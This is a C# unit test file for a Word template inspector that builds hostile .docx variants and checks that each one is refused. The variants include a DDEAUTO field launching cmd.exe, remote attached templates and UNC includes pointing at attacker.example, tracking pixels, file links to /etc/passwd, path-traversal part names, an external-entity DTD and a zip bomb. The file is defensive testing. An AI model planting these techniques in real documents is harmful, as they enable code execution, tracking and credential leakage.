using System.IO.Compression;
using System.Text;
using FactFunctions.Boards;
using FactFunctions.Reports;
using FactFunctions.Reports.Papers;
using FactFunctions.Reports.Word;

namespace FactFunctions.Core.Tests.Reports;

/// <summary>
/// Every way found to make a paper fetch, include or run something from outside the file, built by code from the
/// built-in template, is refused by name; the built-in templates, a template with ordinary web links, and every paper
/// rendered from them pass.
/// </summary>
public class TemplateInspectorTests
{
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string ImageType = Relationships + "/image";
    private const string HyperlinkType = Relationships + "/hyperlink";
    private const string DocumentRels = "word/_rels/document.xml.rels";
    private const string Namespaces =
        "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"" + Relationships + "\" " +
        "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";

    public static TheoryData<string> Kinds => [.. PaperKinds.All];

    /// <summary>Each hostile variant, and a word its refusal must contain.</summary>
    public static TheoryData<string, string> Hostile => new()
    {
        { "external-image-leading-space", "outside resource" },
        { "external-image-trailing-space", "outside resource" },
        { "external-image-numeric-mode", "outside resource" },
        { "external-lookalike-hyperlink-type", "outside resource" },
        { "image-linked-to-hyperlink", "r:link" },
        { "image-embedding-a-hyperlink", "source of blip" },
        { "remote-attached-template", "attachedTemplate" },
        { "remote-attached-template-odd-spelling", "attachedTemplate" },
        { "includepicture-simple-field", "INCLUDEPICTURE" },
        { "includetext-unc-complex-field-split", "INCLUDETEXT" },
        { "ddeauto-field", "DDEAUTO" },
        { "nested-include-in-if-field", "INCLUDEPICTURE" },
        { "file-hyperlink-field", "HYPERLINK field" },
        { "alt-chunk", "aFChunk" },
        { "alt-chunk-element", "altChunk" },
        { "embedded-ole-package", "embedded object" },
        { "vba-under-another-name", "macros" },
        { "macro-enabled-main", "macros" },
        { "file-hyperlink", "http, https or mailto" },
        { "unc-hyperlink", "http, https or mailto" },
        { "part-name-dot-dot", "not a valid package part name" },
        { "part-name-leading-slash", "not a valid package part name" },
        { "part-name-backslash", "not a valid package part name" },
        { "part-name-case-twin", "appears twice" },
        { "template-main-content-type", "template's main part" },
        { "absolute-internal-target", "malformed" },
        { "dtd-in-document", "DTD" },
        { "vml-remote-picture", "outside file" },
    };

    [Theory]
    [MemberData(nameof(Kinds))]
    public void The_built_in_templates_pass(string kind) => AssertSafe(BuiltInTemplates.For(kind), PaperDefinitions.Get(kind).Format);

    [Theory]
    [MemberData(nameof(Kinds))]
    public void A_paper_rendered_from_the_built_in_template_passes_the_same_inspection(string kind) =>
        AssertSafe(SamplePapers.Render(kind), PaperDefinitions.Get(kind).Format);

    [Fact]
    public void Ordinary_web_and_mail_links_from_hyperlink_elements_are_allowed()
    {
        byte[] template = Edit(BuiltInTemplates.For(PaperKinds.SelectCommittee), zip =>
        {
            AddRelationship(zip, DocumentRels, "rIdWeb", HyperlinkType, "https://www.wiltshire.gov.uk/", " External");
            AddRelationship(zip, DocumentRels, "rIdMail", HyperlinkType, "mailto:fact@wiltshire.gov.uk", "External");
            InsertInBody(zip, $"<w:p {Namespaces}><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>Wiltshire Council</w:t></w:r></w:hyperlink>" +
                "<w:hyperlink r:id=\"rIdMail\"><w:r><w:t>e-mail the programme</w:t></w:r></w:hyperlink>" +
                "<w:fldSimple w:instr=\" HYPERLINK &quot;https://www.wiltshire.gov.uk/&quot; \"><w:r><w:t>link</w:t></w:r></w:fldSimple></w:p>");
        });

        AssertSafe(template);
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void A_hostile_template_is_refused_naming_what_is_wrong(string variant, string expected)
    {
        byte[] hostile = Edit(BuiltInTemplates.For(PaperKinds.SelectCommittee), zip => Apply(variant, zip));

        var inspection = TemplateInspector.Inspect(hostile);

        Assert.False(inspection.Safe, $"{variant} passed the inspection");
        Assert.False(inspection.TooLarge);
        Assert.Contains(inspection.Problems, p => p.Contains(expected, StringComparison.Ordinal));
    }

    [Fact]
    public void A_template_that_expands_past_the_limit_is_refused_for_size_without_being_read_further()
    {
        byte[] bomb = Edit(BuiltInTemplates.For(PaperKinds.SchoolsForum), zip =>
        {
            using var stream = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (long written = 0; written <= TemplateInspector.MaxUncompressedBytes; written += zeros.Length)
            {
                stream.Write(zeros);
            }
        });

        var inspection = TemplateInspector.Inspect(bomb);

        Assert.True(inspection.TooLarge);
        Assert.Contains("zip bomb", Assert.Single(inspection.Problems), StringComparison.Ordinal);
    }

    [Fact]
    public void The_built_in_templates_are_far_below_the_size_limit()
    {
        foreach (string kind in PaperKinds.All)
        {
            using var zip = new ZipArchive(new MemoryStream(BuiltInTemplates.For(kind)), ZipArchiveMode.Read);
            long expanded = zip.Entries.Sum(e => e.Length);
            Assert.True(expanded < TemplateInspector.MaxUncompressedBytes / 100, $"{kind} expands to {expanded} bytes");
        }
    }

    private static void AssertSafe(byte[] docx, PaperFormat? format = null)
    {
        var inspection = TemplateInspector.Inspect(docx, format ?? PaperFormat.Word);
        Assert.True(inspection.Safe, string.Join(Environment.NewLine, inspection.Problems));
    }

    private static void Apply(string variant, ZipArchive zip)
    {
        switch (variant)
        {
            case "external-image-leading-space":
                AddRelationship(zip, DocumentRels, "rIdPixel", ImageType, "https://tracker.example/pixel.png", " External");
                break;
            case "external-image-trailing-space":
                AddRelationship(zip, DocumentRels, "rIdPixel", ImageType, "https://tracker.example/pixel.png", "External ");
                break;
            case "external-image-numeric-mode":
                AddRelationship(zip, DocumentRels, "rIdPixel", ImageType, "https://tracker.example/pixel.png", "1");
                break;
            case "external-lookalike-hyperlink-type":
                AddRelationship(zip, DocumentRels, "rIdPixel", "http://attacker.example/image/hyperlink", "https://tracker.example/pixel.png", "External");
                break;
            case "image-linked-to-hyperlink":
                AddRelationship(zip, DocumentRels, "rIdLink", HyperlinkType, "https://tracker.example/pixel.png", "External");
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:pict><v:shape><v:imagedata r:link=\"rIdLink\"/></v:shape></w:pict></w:r></w:p>");
                break;
            case "image-embedding-a-hyperlink":
                AddRelationship(zip, DocumentRels, "rIdLink", HyperlinkType, "https://tracker.example/pixel.png", "External");
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><a:blip xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" r:embed=\"rIdLink\"/></w:r></w:p>");
                break;
            case "remote-attached-template":
                AddRelationship(zip, "word/_rels/settings.xml.rels", "rIdAttached", Relationships + "/attachedTemplate", "https://attacker.example/evil.dotm", "External");
                break;
            case "remote-attached-template-odd-spelling":
                AddRelationship(zip, "word/_rels/settings.xml.rels", "rIdAttached", Relationships + "/attachedTemplate", "https://attacker.example/evil.dotm", " External");
                break;
            case "includepicture-simple-field":
                InsertInBody(zip,
                    $"<w:p {Namespaces}><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
                break;
            case "includetext-unc-complex-field-split":
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> INCL</w:instrText></w:r>" +
                    "<w:r><w:instrText>UDETEXT \"\\\\\\\\attacker.example\\\\share\\\\x.docx\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" +
                    "<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                break;
            case "ddeauto-field":
                InsertInBody(zip,
                    $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO " +
                        $"c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>" +
                    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                break;
            case "nested-include-in-if-field":
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1 = 1 \"</w:instrText></w:r>" +
                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>includepicture " +
                        "\"https://tracker.example/p.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>" +
                    "<w:r><w:instrText>\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                break;
            case "file-hyperlink-field":
                InsertInBody(zip, $"<w:p {Namespaces}><w:fldSimple w:instr=\"HYPERLINK &quot;file:///C:/Windows/win.ini&quot;\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
                break;
            case "alt-chunk":
                AddPart(zip, "word/chunk.html", "text/html", "<html><body><img src=\"https://tracker.example/p.png\"></body></html>");
                AddRelationship(zip, DocumentRels, "rIdChunk", Relationships + "/aFChunk", "chunk.html", null);
                break;
            case "alt-chunk-element":
                InsertInBody(zip, $"<w:altChunk {Namespaces} r:id=\"rIdMissing\"/>");
                break;
            case "embedded-ole-package":
                AddPart(zip, "word/embeddings/payload.bin", "application/vnd.openxmlformats-officedocument.oleObject", "not really OLE");
                AddRelationship(zip, DocumentRels, "rIdOle", Relationships + "/oleObject", "embeddings/payload.bin", null);
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>");
                break;
            case "vba-under-another-name":
                AddPart(zip, "word/customisation.dat", "application/vnd.ms-office.vbaProject", "not really VBA");
                break;
            case "macro-enabled-main":
                ReplaceIn(zip, "[Content_Types].xml", "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml");
                break;
            case "file-hyperlink":
                AddRelationship(zip, DocumentRels, "rIdFile", HyperlinkType, "file:///etc/passwd", "External");
                break;
            case "unc-hyperlink":
                AddRelationship(zip, DocumentRels, "rIdUnc", HyperlinkType, "\\\\attacker.example\\share", "External");
                break;
            case "part-name-dot-dot":
                Write(zip, "word/../evil.xml", "<x/>");
                break;
            case "part-name-leading-slash":
                Write(zip, "/word/evil.xml", "<x/>");
                break;
            case "part-name-backslash":
                Write(zip, "word\\evil.xml", "<x/>");
                break;
            case "part-name-case-twin":
                Write(zip, "Word/Document.xml", "<x/>");
                break;
            case "template-main-content-type":
                ReplaceIn(zip, "[Content_Types].xml", "wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml");
                break;
            case "absolute-internal-target":
                AddRelationship(zip, DocumentRels, "rIdAbsolute", ImageType, "https://tracker.example/pixel.png", null);
                break;
            case "dtd-in-document":
                ReplaceIn(zip, "word/document.xml", "<w:document", "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"https://tracker.example/x\">]><w:document");
                break;
            case "vml-remote-picture":
                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:pict><v:shape><v:imagedata src=\"https://tracker.example/p.png\"/></v:shape></w:pict></w:r></w:p>");
                break;
            default:
                throw new ArgumentOutOfRangeException(nameof(variant), variant, "no such variant");
        }
    }

    private static byte[] Edit(byte[] docx, Action<ZipArchive> edit)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            edit(zip);
        }

        return stream.ToArray();
    }

    private static string Read(ZipArchive zip, string name)
    {
        using var reader = new StreamReader(zip.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }

    private static void Write(ZipArchive zip, string name, string text)
    {
        zip.GetEntry(name)?.Delete();
        using var stream = zip.CreateEntry(name).Open();
        stream.Write(Encoding.UTF8.GetBytes(text));
    }

    private static void ReplaceIn(ZipArchive zip, string name, string from, string to)
    {
        string text = Read(zip, name);
        Assert.Contains(from, text, StringComparison.Ordinal);
        Write(zip, name, text.Replace(from, to, StringComparison.Ordinal));
    }

    private static void InsertInBody(ZipArchive zip, string xml)
    {
        string document = Read(zip, "word/document.xml");
        int body = document.IndexOf("<w:body>", StringComparison.Ordinal);
        Assert.True(body >= 0, "the template's body is not where the test expects it");
        Write(zip, "word/document.xml", document.Insert(body + "<w:body>".Length, xml));
    }

    private static void AddRelationship(ZipArchive zip, string relsPart, string id, string type, string target, string? targetMode)
    {
        string rels = zip.GetEntry(relsPart) is null
            ? "<?xml version=\"1.0\" encoding=\"utf-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>"
            : Read(zip, relsPart);
        string mode = targetMode is null ? string.Empty : $" TargetMode=\"{targetMode}\"";
        Write(zip, relsPart, rels.Replace("</Relationships>", $"<Relationship Id=\"{id}\" Type=\"{type}\" Target=\"{System.Security.SecurityElement
            .Escape(target)}\"{mode}/></Relationships>", StringComparison.Ordinal));
    }

    private static void AddPart(ZipArchive zip, string name, string contentType, string content)
    {
        Write(zip, name, content);
        string types = Read(zip, "[Content_Types].xml");
        Write(zip, "[Content_Types].xml", types.Replace("</Types>", $"<Override PartName=\"/{name}\" ContentType=\"{contentType}\"/></Types>", StringComparison.Ordinal));
    }
}
